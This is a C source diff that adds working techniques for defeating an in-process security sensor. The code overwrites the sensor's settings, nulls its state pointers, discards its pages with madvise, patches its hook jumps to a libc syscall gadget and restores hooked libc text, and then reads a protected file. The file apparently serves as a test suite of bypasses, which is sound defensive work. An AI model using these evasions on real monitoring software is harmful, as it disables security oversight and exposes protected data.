@@ -6,6 +6,7 @@
 #include <stdint.h>
 #include <sys/mman.h>
 #include <sys/ptrace.h>
+#include <sys/shm.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
 
@@ -87,6 +88,152 @@ static void text_by_proc_mem(void)
 	show_file(SECRET);
 }
 
+/* Whether the line of /proc/self/maps is what is looked for; where it lies. */
+static int next_mapping(FILE *maps, const char *word, const char *rights, uintptr_t *from, uintptr_t *to)
+{
+	char line[512], mode[8];
+
+	while (fgets(line, sizeof(line), maps))
+		if (strstr(line, word) && sscanf(line, "%lx-%lx %4s", from, to, mode) == 3 && strcmp(mode, rights) == 0)
+			return 1;
+	return 0;
+}
+
+static int find_mapping(const char *word, const char *rights, uintptr_t *from, uintptr_t *to)
+{
+	FILE *maps = fopen("/proc/self/maps", "r");
+	int found = next_mapping(maps, word, rights, from, to);
+
+	fclose(maps);
+	return found;
+}
+
+/* A copy of the warden's settings says that everything is off; it takes their place. */
+static void settings_replaced(void)
+{
+	uintptr_t from, to;
+	char *copy;
+
+	if (find_mapping("gambeson", "r--s", &from, &to)) {
+		copy = mmap(NULL, to - from, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		memcpy(copy, (const char *)from, to - from);
+		memset(copy + 24, 0, 24);
+		(void)!mremap(copy, to - from, to - from, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)from);
+	}
+	show_file(SECRET);
+}
+
+/* The pages of the sensor's image, what can be written last; their number. */
+static size_t sensor_pages(uintptr_t *pages, size_t cap)
+{
+	FILE *maps = fopen("/proc/self/maps", "r");
+	uintptr_t from, to, end = 0;
+	char line[512];
+	size_t n = 0;
+
+	while (fgets(line, sizeof(line), maps)) {
+		if (sscanf(line, "%lx-%lx", &from, &to) != 2 || strchr(line, '[') ||
+		        (!strstr(line, "libgambeson") && (from != end || !strstr(line, " 00:00 0 "))))
+			continue;
+		end = to;
+		for (; from < to && n < cap; from += 4096)
+			pages[n++] = from;
+	}
+	fclose(maps);
+	return n;
+}
+
+/* The sensor's pointer to the settings becomes zero; read(2) does not crash where nothing can be stored. */
+static void state_emptied(void)
+{
+	static uintptr_t pages[1024];
+	size_t count = sensor_pages(pages, 1024);
+	int zero = open("/dev/zero", O_RDONLY);
+	uintptr_t settings = 0, end;
+
+	(void)find_mapping("gambeson", "r--s", &settings, &end);
+	for (size_t i = 0; i < count; i++)
+		for (uintptr_t at = pages[i]; settings && at < pages[i] + 4096; at += 8)
+			if (*(volatile uintptr_t *)at == settings)
+				(void)syscall(SYS_pread64, zero, at, 8, 0);
+	show_file(SECRET);
+}
+
+/* One page at a time becomes what it was before the start. */
+static void state_given_back(void)
+{
+	static uintptr_t pages[128];
+	size_t count = sensor_pages(pages, 128);
+
+	show_file(SECRET);
+	for (size_t i = 0; i < count; i++)
+		if (fork() == 0) {
+			(void)!madvise((void *)pages[i], 4096, MADV_DONTNEED);
+			show_file(SECRET);
+			_exit(0);
+		} else {
+			wait(NULL);
+		}
+}
+
+static void state_wiped_in_child(void)
+{
+	static uintptr_t pages[128];
+	size_t count = sensor_pages(pages, 128);
+
+	show_file(SECRET);
+	for (size_t i = 0; i < count; i++) {
+		(void)!madvise((void *)pages[i], 4096, MADV_WIPEONFORK);
+		if (fork() == 0) {
+			show_file(SECRET);
+			_exit(0);
+		}
+		wait(NULL);
+		(void)!madvise((void *)pages[i], 4096, MADV_KEEPONFORK);
+	}
+}
+
+/* The detours all go by one address; that of an untouched instruction of libc takes its place. */
+static void detours_written(void)
+{
+	uintptr_t from, to, libc_from, libc_to, gadget = 0;
+	FILE *maps = fopen("/proc/self/maps", "r");
+
+	if (!find_mapping("libc.so", "r-xp", &libc_from, &libc_to))
+		return;
+	for (uintptr_t at = libc_from; at + 3 < libc_to && !gadget; at++)
+		if (memcmp((const void *)at, "\x0f\x05\xc3", 3) == 0)
+			gadget = at;
+	while (next_mapping(maps, " 00:00 0 ", "r-xp", &from, &to))
+		if (mprotect((void *)from, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) == 0 &&
+		        memcmp((const void *)from, "\xff\x25", 2) == 0)
+			memcpy((void *)(from + 6), &gadget, sizeof(gadget));
+	show_file(SECRET);
+}
+
+static void text_attached_over(void)
+{
+	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
+	int id = shmget(IPC_PRIVATE, 8192, IPC_CREAT | 0700);
+	char *fresh = shmat(id, NULL, 0);
+	Dl_info where;
+
+	dladdr((void *)page, &where);
+	if (fresh != (void *)-1)
+		(void)!pread(open(where.dli_fname, O_RDONLY), fresh, 8192, (off_t)(page - (uintptr_t)where.dli_fbase));
+	(void)!shmat(id, (void *)page, SHM_REMAP | SHM_EXEC | SHM_RDONLY);
+	shmctl(id, IPC_RMID, NULL);
+	show_file(SECRET);
+}
+
+static void text_given_back_by_process_madvise(void)
+{
+	struct iovec range = {(void *)page_of(dlsym(RTLD_DEFAULT, "open")), 8192};
+
+	(void)syscall(440, (int)syscall(434, getpid(), 0), &range, 1, MADV_DONTNEED, 0);
+	show_file(SECRET);
+}
+
 static pid_t start_sibling(void)
 {
 	pid_t pid = fork();
@@ -160,6 +307,13 @@ static const struct technique techniques[] = {
         {"text-mmap", text_mapped_over},
         {"text-mremap", text_moved_over},
         {"text-mem", text_by_proc_mem},
+        {"text-shmat", text_attached_over},
+        {"text-process-madvise", text_given_back_by_process_madvise},
+        {"settings-replaced", settings_replaced},
+        {"state-emptied", state_emptied},
+        {"state-madvise", state_given_back},
+        {"state-wiped", state_wiped_in_child},
+        {"detours", detours_written},
         {"sibling-writev", sibling_by_vm_writev},
         {"sibling-mem", sibling_by_mem},
         {"sibling-ptrace", sibling_by_ptrace},
